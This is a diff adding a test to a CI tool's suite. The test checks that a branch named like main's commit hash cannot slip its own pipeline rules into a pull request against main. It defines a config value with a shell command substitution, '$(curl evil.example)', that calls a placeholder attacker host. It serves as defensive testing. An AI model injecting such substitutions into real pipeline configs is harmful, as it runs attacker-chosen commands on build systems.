@@ -64,6 +64,19 @@ describe('whoever may push a branch, and so writes its slipway.yml,', () => {
     await yml.push('main', onMain, 'narrow again');
   });
 
+  it('decides no pull request into main by a branch that is named like the commit of main', async () => {
+    const evil = "variables: { REVISION: '$(curl evil.example)' }";
+    const own = rulesFile({ Checks: [...everything, 'pullRequests: {}', evil, 'anyText: [REVISION]'] });
+    const main = await yml.product.copy.git('rev-parse', 'origin/main');
+    await yml.push(main.slice(0, 12), own, 'like-main');
+    await yml.backToMain();
+    await yml.push('into-main', undefined);
+    const starts = yml.count('checks');
+    await yml.pullRequest('into-main');
+    expect(yml.count('checks')).toBe(starts);
+    expect(yml.lastVerdicts()).toEqual(['skip no-file', 'skip no-file']);
+  });
+
   it('of a fork is not read at all', async () => {
     const taking = rulesFile({ Checks: ['mainOnly: true', 'pullRequests: {}'], Deploy: ['mainOnly: true'] });
     await yml.push('main', taking, 'pull requests');
